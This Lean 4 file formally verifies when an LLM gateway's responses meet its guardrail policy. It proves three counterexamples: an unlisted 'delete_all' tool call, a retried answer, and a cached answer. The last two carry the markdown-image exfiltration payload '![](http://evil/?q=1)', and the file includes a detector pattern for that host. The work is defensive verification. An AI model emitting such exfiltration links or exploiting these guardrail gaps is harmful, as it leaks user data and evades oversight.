import Reiver.Lib.Run
import Reiver.Flow.Gateway.Chat

/-! # The output policy of served responses

What a client gets meets the guardrails in force, over all runs of requests and cache writes, exactly if three kinds of
requests stay away: a tool list on a project without guardrails, a second answer of the output contract that the
guardrails would not have let through, and a cache hit on what another policy has let through (`policed_iff`). -/

namespace Reiver.Flow

section Answered
variable (env : GatewayEnv) (ctx : ChatContext) (outcomes : ProviderOutcomes)

/-- The outcomes of the providers leave the guardrails nothing to do where they are not asked. -/
structure AnsweredUnderPolicy : Prop where
  /-- Without guardrails of the project, an answer that the contract keeps calls only the listed tools. -/
  listed : ctx.guardrailConfig.isNoop = true → ∀ fb, execution env ctx outcomes = .ok fb →
    contractVerdict env ctx outcomes fb.result = .keep →
      ∀ allowed ∈ ctx.policy.allowedTools, ∀ name ∈ fb.result.toolCallNames, name ∈ allowed
  /-- A second answer that takes the place of the first meets the policy as it came. -/
  retried : ∀ response answer, guarded env ctx outcomes = .ok response →
    contractVerdict env ctx outcomes response = .replace answer → Policed env.filters ctx.policy answer

end Answered

namespace Gateway
variable (env : GatewayEnv)

/-- Whatever is returned meets the policy in force. -/
def Promised (g : Gateway) : GatewayAction → Prop
  | .chat ctx view outcomes => ∀ response, g.chatCompletions env ctx view outcomes = .ok response →
    Policed env.filters ctx.policy response
  | .cacheSet _ _ => True

/-- A hit is on what the policy in force has let through, or what it has nothing against, and a miss is answered under
    the policy. -/
def Guarded (g : Gateway) : GatewayAction → Prop
  | .chat ctx view outcomes =>
    (∀ cached ∈ (g.lookup env ctx view).2,
      cached.policy = ctx.policy ∨ Policed env.filters ctx.policy cached.response) ∧
    ((g.lookup env ctx view).2 = none → AnsweredUnderPolicy env ctx outcomes)
  | .cacheSet _ _ => True

end Gateway

/-! ### One request -/

section Request
variable {env : GatewayEnv} {ctx : ChatContext} {outcomes : ProviderOutcomes} {response answer : ChatCompletionResponse}

theorem guarded_ok (h : guarded env ctx outcomes = .ok response) :
    ∃ fb, execution env ctx outcomes = .ok fb ∧
      ((ctx.guardrailConfig.isNoop = true ∧ response = fb.result) ∨
        (ctx.guardrailConfig.isNoop = false ∧ Policed env.filters ctx.policy response)) := by
  rw [guarded] at h
  cases hexec : execution env ctx outcomes with
  | error error =>
    rw [hexec, Except.map, applyOutputGuardrails_error] at h
    cases h
  | ok fb =>
    rw [hexec, Except.map] at h
    have hout := applyOutputGuardrails_ok h
    exact ⟨fb, rfl, hout⟩

theorem guarded_of_isNoop (h : ctx.guardrailConfig.isNoop = true) :
    guarded env ctx outcomes = (execution env ctx outcomes).map (·.result) := by
  rw [guarded, applyOutputGuardrails.eq_def]
  exact if_pos h

theorem answerRequest_ok :
    answerRequest env ctx outcomes = .ok answer ↔ ∃ response, guarded env ctx outcomes = .ok response ∧
      ((contractVerdict env ctx outcomes response = .keep ∧ answer = response) ∨
        contractVerdict env ctx outcomes response = .replace answer) := by
  rw [answerRequest, enforceOutputContract.eq_def]
  cases hguarded : guarded env ctx outcomes with
  | error error => exact iff_of_false (fun h => nomatch h) fun ⟨_, h, _⟩ => nomatch h
  | ok response =>
    constructor
    · intro h
      refine ⟨response, rfl, ?_⟩
      dsimp only at h
      split at h
      · next hkeep =>
        cases h
        exact .inl ⟨hkeep, rfl⟩
      · next hreplace =>
        cases h
        exact .inr hreplace
      · cases h
    · rintro ⟨_, h, ⟨hkeep, rfl⟩ | hreplace⟩
      · cases h
        dsimp only
        rw [hkeep]
      · cases h
        dsimp only
        rw [hreplace]

theorem answerRequest_policed :
    (∀ answer, answerRequest env ctx outcomes = .ok answer → Policed env.filters ctx.policy answer) ↔
      AnsweredUnderPolicy env ctx outcomes := by
  constructor
  · intro h
    refine ⟨fun hnoop fb hexec hkeep => ?_, fun response answer hguarded hreplace => ?_⟩
    · have hguarded : guarded env ctx outcomes = .ok fb.result := by
        rw [guarded_of_isNoop hnoop, hexec]
        rfl
      have hanswer := answerRequest_ok.mpr ⟨fb.result, hguarded, .inl ⟨hkeep, rfl⟩⟩
      exact (h fb.result hanswer).allowed
    · exact h answer (answerRequest_ok.mpr ⟨response, hguarded, .inr hreplace⟩)
  · intro h answer hanswer
    obtain ⟨response, hguarded, ⟨hkeep, rfl⟩ | hreplace⟩ := answerRequest_ok.mp hanswer
    · obtain ⟨fb, hexec, ⟨hnoop, rfl⟩ | ⟨-, hpoliced⟩⟩ := guarded_ok hguarded
      · have hpolicy : ctx.policy.guardrailConfig.isNoop = true := hnoop
        exact (policed_iff_of_isNoop hpolicy).mpr (h.listed hnoop fb hexec hkeep)
      · exact hpoliced
    · exact h.retried response answer hguarded hreplace

end Request

/-! ### Runs -/

namespace Gateway
variable {env : GatewayEnv} {g g' : Gateway} {ctx : ChatContext} {view : CacheView} {outcomes : ProviderOutcomes}
  {action : GatewayAction}

/-- All that is stored, or about to be, has a property. -/
structure Stored (p : CachedResponse → Prop) (g : Gateway) : Prop where
  cached : g.cache.All p
  pending : ∀ write ∈ g.pending, p write.entry

def PolicedEntry (env : GatewayEnv) (entry : CachedResponse) : Prop := Policed env.filters entry.policy entry.response

variable {p : CachedResponse → Prop}

theorem Stored.init : Stored p {} where
  cached := .empty
  pending _ h := nomatch h

theorem Stored.lookup {cache : GatewayCache} {found : Option CachedResponse} (h : Stored p g)
    (hlookup : g.lookup env ctx view = (cache, found)) : cache.All p ∧ ∀ cached ∈ found, p cached := by
  rw [Gateway.lookup] at hlookup
  split at hlookup
  · exact h.cached.get hlookup
  · cases hlookup
    exact ⟨h.cached, fun _ hmem => nomatch hmem⟩

theorem chatCompletions_hit {cached : CachedResponse} (h : (g.lookup env ctx view).2 = some cached) :
    g.chatCompletions env ctx view outcomes = .ok cached.response := by
  rw [chatCompletions, h]

theorem chatCompletions_miss (h : (g.lookup env ctx view).2 = none) :
    g.chatCompletions env ctx view outcomes = answerRequest env ctx outcomes := by
  rw [chatCompletions, h]

theorem newSet_entry {result : Except GatewayError ChatCompletionResponse}
    (h : ∀ response, result = .ok response → p ⟨response, ctx.policy⟩) :
    ∀ write ∈ newSet ctx result, p write.entry := by
  intro write hwrite
  rw [newSet.eq_def] at hwrite
  split at hwrite
  · next response =>
    split at hwrite
    · cases List.mem_singleton.mp hwrite
      exact h response rfl
    · cases hwrite
  · cases hwrite

theorem step_cases (h : g.step env action = some g') :
    (∃ ctx view outcomes cache cached, action = .chat ctx view outcomes ∧ g.lookup env ctx view = (cache, some cached) ∧
      g' = { g with cache }) ∨
    (∃ ctx view outcomes cache, action = .chat ctx view outcomes ∧ g.lookup env ctx view = (cache, none) ∧
      g' = { cache, pending := g.pending ++ newSet ctx (answerRequest env ctx outcomes) }) ∨
    ∃ index semcacheOk write, action = .cacheSet index semcacheOk ∧ g.pending[index]? = some write ∧
      g' = { cache := g.cache.set env write.projectId write.request write.entry semcacheOk
             pending := g.pending.eraseIdx index } := by
  cases action with
  | chat ctx view outcomes =>
    simp only [step] at h
    split at h
    · cases h
    · split at h
      · next cache cached hlookup =>
        cases h
        exact .inl ⟨ctx, view, outcomes, cache, cached, rfl, hlookup, rfl⟩
      · next cache hlookup =>
        cases h
        exact .inr (.inl ⟨ctx, view, outcomes, cache, rfl, hlookup, rfl⟩)
  | cacheSet index semcacheOk =>
    obtain ⟨write, hwrite, rfl⟩ := Option.map_eq_some_iff.mp h
    exact .inr (.inr ⟨index, semcacheOk, write, rfl, hwrite, rfl⟩)

theorem Stored.step (hstored : Stored p g)
    (hnew : ∀ ctx view outcomes, action = .chat ctx view outcomes → (g.lookup env ctx view).2 = none →
      ∀ response, answerRequest env ctx outcomes = .ok response → p ⟨response, ctx.policy⟩)
    (h : g.step env action = some g') : Stored p g' := by
  rcases step_cases h with ⟨ctx, view, outcomes, cache, cached, rfl, hlookup, rfl⟩ |
    ⟨ctx, view, outcomes, cache, rfl, hlookup, rfl⟩ | ⟨index, semcacheOk, write, rfl, hwrite, rfl⟩
  · exact ⟨(hstored.lookup hlookup).1, hstored.pending⟩
  · refine ⟨(hstored.lookup hlookup).1, fun write hwrite => ?_⟩
    rcases List.mem_append.mp hwrite with hwrite | hwrite
    · exact hstored.pending write hwrite
    · exact newSet_entry (hnew ctx view outcomes rfl (congrArg Prod.snd hlookup)) write hwrite
  · exact ⟨hstored.cached.set (hstored.pending write (List.mem_of_getElem? hwrite)),
      fun other hother => hstored.pending other (List.mem_of_mem_eraseIdx hother)⟩

theorem promised_iff_guarded (hstored : Stored (PolicedEntry env) g) :
    Promised env g action ↔ Guarded env g action := by
  cases action with
  | cacheSet index semcacheOk => exact Iff.rfl
  | chat ctx view outcomes =>
    have hfound : ∀ cached ∈ (g.lookup env ctx view).2, Policed env.filters cached.policy cached.response :=
      (hstored.lookup rfl).2
    cases hlookup : (g.lookup env ctx view).2 with
    | none =>
      simp only [Promised, Guarded, hlookup, chatCompletions_miss hlookup]
      rw [answerRequest_policed]
      exact ⟨fun h => ⟨fun _ hmem => (nomatch hmem), fun _ => h⟩, fun h => h.2 trivial⟩
    | some cached =>
      have hcached := hfound cached hlookup
      simp only [Promised, Guarded, hlookup, chatCompletions_hit hlookup]
      constructor
      · refine fun h => ⟨fun cached' hmem => ?_, fun hnone => nomatch hnone⟩
        cases hmem
        exact .inr (h _ rfl)
      · rintro ⟨h, -⟩ response hresponse
        cases hresponse
        rcases h cached rfl with hsame | hpoliced
        · exact hsame ▸ hcached
        · exact hpoliced

theorem Stored.step_guarded (hstored : Stored (PolicedEntry env) g) (hguarded : Guarded env g action)
    (h : g.step env action = some g') : Stored (PolicedEntry env) g' := by
  refine hstored.step ?_ h
  rintro ctx view outcomes rfl hmiss
  exact answerRequest_policed.mpr (hguarded.2 hmiss)

/-- Over every run, all responses meet the policies of their requests exactly if every request is guarded. -/
theorem policed_iff (env : GatewayEnv) (run : List GatewayAction) :
    Meets (step env) (Promised env) {} run ↔ Meets (step env) (Guarded env) {} run :=
  meets_iff_of_inv (fun _ _ _ hstored hguarded h => hstored.step_guarded hguarded h)
    (fun _ _ _ hstored _ => promised_iff_guarded hstored) Stored.init

/-! ### Requests of one policy -/

/-- The request has the policy; a project without guardrails lists no tools, and under guardrails no second answer is
    asked for. -/
structure SteadyRequest (policy : OutputPolicy) (ctx : ChatContext) : Prop where
  samePolicy : ctx.policy = policy
  noTools : policy.guardrailConfig.isNoop = true → policy.allowedTools = none
  noRetry : policy.guardrailConfig.isNoop = false → ∀ resolution ∈ ctx.promptResolution,
    resolution.outputSchema = none ∨ resolution.outputFailureAction = .logOnly ∨ resolution.outputFailureAction = .error

def Steady (policy : OutputPolicy) : GatewayAction → Prop
  | .chat ctx _ _ => SteadyRequest policy ctx
  | .cacheSet _ _ => True

variable {policy : OutputPolicy}

theorem contractVerdict_ne_replace {response answer : ChatCompletionResponse}
    (h : ∀ resolution ∈ ctx.promptResolution, resolution.outputSchema = none ∨
      resolution.outputFailureAction = .logOnly ∨ resolution.outputFailureAction = .error) :
    contractVerdict env ctx outcomes response ≠ .replace answer := by
  intro hreplace
  rw [contractVerdict] at hreplace
  split at hreplace
  · cases hreplace
  · next violation hviolation =>
    obtain ⟨resolution, hresolution, hviolation⟩ := Option.bind_eq_some_iff.mp hviolation
    obtain ⟨schema, hschema, hviolation⟩ := Option.bind_eq_some_iff.mp hviolation
    have haction : violation.action = resolution.outputFailureAction := by
      split at hviolation
      · cases hviolation
      · cases hviolation
        rfl
    rcases h resolution hresolution with hnone | hlog | herror
    · cases hnone.symm.trans hschema
    · rw [haction, hlog] at hreplace
      cases hreplace
    · rw [haction, herror] at hreplace
      cases hreplace

theorem SteadyRequest.answered (h : SteadyRequest policy ctx) : AnsweredUnderPolicy env ctx outcomes := by
  obtain ⟨rfl, hnoTools, hnoRetry⟩ := h
  refine ⟨fun hnoop _ _ _ allowed hallowed => ?_, fun _ answer _ hreplace => ?_⟩
  · cases (hnoTools hnoop).symm.trans hallowed
  · cases hnoop : ctx.policy.guardrailConfig.isNoop with
    | true =>
      refine (policed_iff_of_isNoop hnoop).mpr fun allowed hallowed => ?_
      cases (hnoTools hnoop).symm.trans hallowed
    | false => exact absurd hreplace (contractVerdict_ne_replace (hnoRetry hnoop))

theorem guarded_of_steady {run : List GatewayAction} (hstored : Stored (·.policy = policy) g)
    (h : ∀ action ∈ run, Steady policy action) : Meets (Gateway.step env) (Guarded env) g run := by
  induction run generalizing g with
  | nil => trivial
  | cons action run ih =>
    obtain ⟨haction, hrun⟩ := List.forall_mem_cons.mp h
    intro g' hg'
    refine ⟨?_, ih (hstored.step ?_ hg') hrun⟩
    · cases action with
      | cacheSet index semcacheOk => trivial
      | chat ctx view outcomes =>
        refine ⟨fun cached hcached => .inl ?_, fun _ => SteadyRequest.answered haction⟩
        exact ((hstored.lookup rfl).2 cached hcached).trans (SteadyRequest.samePolicy haction).symm
    · rintro ctx view outcomes rfl - response -
      exact SteadyRequest.samePolicy haction

end Gateway

/-! ### Three responses past the policy -/

/-- ASCII letters, no personal data, and URLs of one attacker. A text conforms to a schema if it is the schema. -/
def plainEnv : GatewayEnv where
  filters := {
    toLowercase text := text.map Char.toLower
    redactIfChanged _ := none
    detectExfiltrationInText text :=
      if "http://evil".toList <:+: text.toList then some "Response blocked: http://evil" else none }
  sha256Hex text := text
  validateAgainstSchema text schema := if text = schema then .ok () else .error "response is not valid JSON"

def answering (message : AssistantMessage) : Answers ChatCompletionResponse where
  circuitOpen _ := false
  degraded _ := false
  attempt _ _ := .ok { model := "gpt-4o", choices := [message], usage := {} }

def plainContext : ChatContext where
  projectId := "7b0c"
  request := { model := "gpt-4o", messages := [{ role := .user, content := some "hi" }], temperature := some "0" }
  primary := { provider := .openAi, model := "gpt-4o", key := "sk-1", isPlatformKey := true }

/-- The prompt lists one tool, the project has no guardrail, and the model calls another tool. -/
def unlistedTool : GatewayAction :=
  .chat { plainContext with promptResolution := some { allowedTools := some ["search"] } } {} {
    execution := answering { toolCalls := some [{ name := "delete_all", arguments := "\x7b\x7d" }] }
    contractRetry := answering {} }

def urlBlocking : GuardrailConfig := { blockExfiltrationUrls := true }

/-- The first answer is no JSON; the second is, and holds the URL. -/
def retriedAnswer : GatewayAction :=
  .chat { plainContext with
      guardrailConfig := urlBlocking
      promptResolution := some { outputSchema := some "![](http://evil/?q=1)", outputFailureAction := .retry } } {} {
    execution := answering { content := some "hello" }
    contractRetry := answering { content := some "![](http://evil/?q=1)" } }

def urlAnswer : ProviderOutcomes where
  execution := answering { content := some "![](http://evil/?q=1)" }
  contractRetry := answering {}

/-- The guardrail is switched on after the answer was stored. -/
def storedBefore : List GatewayAction :=
  [.chat plainContext {} urlAnswer, .cacheSet 0 true,
    .chat { plainContext with guardrailConfig := urlBlocking } {} urlAnswer]

theorem past_the_policy :
    ¬Meets (Gateway.step plainEnv) (Gateway.Promised plainEnv) {} [unlistedTool] ∧
    ¬Meets (Gateway.step plainEnv) (Gateway.Promised plainEnv) {} [retriedAnswer] ∧
    ¬Meets (Gateway.step plainEnv) (Gateway.Promised plainEnv) {} storedBefore := by
  refine ⟨fun h => ?_, fun h => ?_, fun h => ?_⟩
  · obtain ⟨hpromised, -⟩ := h _ rfl
    have hlisted := (hpromised _ rfl).allowed _ rfl "delete_all" (by decide)
    exact absurd hlisted (by decide)
  · obtain ⟨hpromised, -⟩ := h _ rfl
    have hclean := ((hpromised _ rfl).exfiltration rfl).1
    exact absurd hclean (by decide)
  · obtain ⟨-, h⟩ := h _ rfl
    obtain ⟨-, h⟩ := h _ rfl
    obtain ⟨hpromised, -⟩ := h _ rfl
    have hclean := ((hpromised _ rfl).exfiltration rfl).1
    exact absurd hclean (by decide)

end Reiver.Flow
